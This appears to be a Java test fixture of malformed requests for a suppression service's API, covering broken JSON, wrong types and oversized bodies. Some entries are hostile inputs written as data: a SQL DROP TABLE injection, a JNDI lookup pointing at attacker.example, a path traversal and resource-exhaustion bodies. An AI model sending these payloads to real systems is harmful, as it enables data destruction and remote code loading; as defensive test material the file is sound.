package io.leadpipeline.reliability.api;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The malformed-request corpus for the suppression-service's {@code /v1} API: broken JSON, wrong
 * types, unknown and missing fields, bad identifiers, wrong content types, bodies far too large.
 * Every one must be answered 4xx with a reason, and the service must go on answering.
 */
public final class MalformedRequests {
  public record Request(String name, String method, String path, String contentType, byte[] body) {
    @Override
    public String toString() {
      return name;
    }
  }

  private MalformedRequests() {}

  public static List<Request> all() {
    List<Request> r = new ArrayList<>();
    r.add(json("truncated JSON", "/v1/do-not-call", "{\"email\": \"ada@example.com\""));
    r.add(json("not JSON at all", "/v1/do-not-call", "email=ada@example.com"));
    r.add(json("a JSON array", "/v1/opt-outs", "[1,2,3]"));
    r.add(json("JSON null", "/v1/opt-outs", "null"));
    r.add(json("empty body", "/v1/do-not-call", ""));
    r.add(json("trailing garbage", "/v1/do-not-call", "{\"email\":\"ada@example.com\"} {}"));
    r.add(json("unknown field", "/v1/do-not-call", "{\"email\":\"ada@example.com\",\"isAdmin\":true}"));
    r.add(json("wrong type", "/v1/opt-outs", "{\"email\":\"ada@example.com\",\"channels\":\"EMAIL_MARKETING\"}"));
    r.add(json("unknown channel", "/v1/opt-outs", "{\"email\":\"ada@example.com\",\"channels\":[\"CARRIER_PIGEON\"]}"));
    r.add(json("no channels", "/v1/opt-outs", "{\"email\":\"ada@example.com\",\"channels\":[]}"));
    r.add(json("neither email nor phone", "/v1/do-not-call", "{}"));
    r.add(json("email without at", "/v1/do-not-call", "{\"email\":\"not-an-email\"}"));
    r.add(json("phone that is SQL", "/v1/do-not-call", "{\"phone\":\"'; DROP TABLE tps;--\"}"));
    r.add(json("phone that is a JNDI lookup", "/v1/call-consents", "{\"phone\":\"${jndi:ldap://attacker.example/a}\"}"));
    r.add(json("expiry not a date", "/v1/call-consents", "{\"phone\":\"020 7946 0001\",\"expiresAt\":\"tomorrow\"}"));
    r.add(json("expiry in the past", "/v1/call-consents", "{\"phone\":\"020 7946 0001\",\"expiresAt\":\"2001-01-01T00:00:00Z\"}"));
    r.add(json("partner id with a path", "/v1/do-not-repeat", "{\"email\":\"ada@example.com\",\"partnerIds\":[\"../../etc\"]}"));
    r.add(json("NUL inside a string", "/v1/do-not-call", "{\"email\":\"ada\\u0000@example.com\"}"));
    r.add(json("deeply nested arrays", "/v1/opt-outs", "[".repeat(5_000) + "]".repeat(5_000)));
    r.add(json("a number with a million digits", "/v1/opt-outs", "{\"email\":" + "9".repeat(15_000) + "}"));
    r.add(new Request("invalid UTF-8", "POST", "/v1/do-not-call", "application/json",
        new byte[] {'{', '"', 'e', 'm', 'a', 'i', 'l', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}));
    r.add(new Request("wrong content type", "POST", "/v1/do-not-call", "text/plain",
        "{\"email\":\"ada@example.com\"}".getBytes(StandardCharsets.UTF_8)));
    r.add(new Request("no content type", "POST", "/v1/do-not-call", null,
        "{\"email\":\"ada@example.com\"}".getBytes(StandardCharsets.UTF_8)));
    r.add(new Request("a 10 MB body", "POST", "/v1/do-not-call", "application/json", hugeJson(10 * 1024 * 1024)));
    r.add(new Request("TPS upload with a made-up register", "POST", "/v1/tps/files?register=XTPS&kind=FULL", "text/plain",
        "02079460001\n".getBytes(StandardCharsets.UTF_8)));
    return r;
  }

  private static Request json(String name, String path, String body) {
    return new Request(name, "POST", path, "application/json", body.getBytes(StandardCharsets.UTF_8));
  }

  private static byte[] hugeJson(int size) {
    StringBuilder b = new StringBuilder(size + 64).append("{\"email\":\"");
    while (b.length() < size) {
      b.append("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
    }
    return b.append("@example.com\"}").toString().getBytes(StandardCharsets.UTF_8);
  }
}
